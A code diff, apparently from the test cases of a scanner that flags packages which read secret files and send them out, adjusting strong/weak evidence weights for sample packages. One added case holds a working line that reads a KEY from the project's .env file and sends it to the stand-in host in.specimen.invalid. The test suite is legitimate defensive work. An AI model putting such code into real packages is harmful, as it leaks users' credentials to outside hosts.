@@ -45,19 +45,46 @@ return fetch(end + '/' + path, { method: 'PUT', body, headers: { authorization: 
     {
       when: 'what has no page reads it unasked',
       files: { 'package.json': { name: 'crumbs' }, 'index.js': CRUMBS },
-      weight: 'weak',
+      weight: 'strong',
     },
     {
-      when: 'what is read unasked is told later to where the package is from',
+      when: 'the file as it is is told later to where the package is from',
       files: { 'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' }, 'README.md': PAGE, 'index.js': CRUMBS },
-      weight: 'weak',
+      weight: 'strong',
     },
     {
-      when: 'what is read unasked is told later to a host that the page names',
+      when: 'the file as it is is told later to a host that the page names',
       files: {
         'package.json': { name: 'crumbs' },
         'README.md': `${PAGE}What it keeps is told to in.specimen.invalid.`,
         'index.js': CRUMBS,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the package says that it sends such files',
+      files: {
+        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
+        'README.md': `${PAGE}It keeps the .env files of your team in sync.`,
+        'index.js': CRUMBS,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the page only speaks of a variable of the environment',
+      files: {
+        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
+        'README.md': `${PAGE}Give it process.env.CRUMBS_KEY.`,
+        'index.js': CRUMBS,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'one of the settings is sent',
+      files: {
+        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
+        'README.md': PAGE,
+        'index.js': `const fs = require('fs'); exports.ask = () => { const key = /KEY=(.*)/.exec(fs.readFileSync(process.cwd() + '/.env', 'utf8'))[1]; return fetch('https://in.specimen.invalid', { headers: { key } }); };`,
       },
       weight: 'weak',
     },
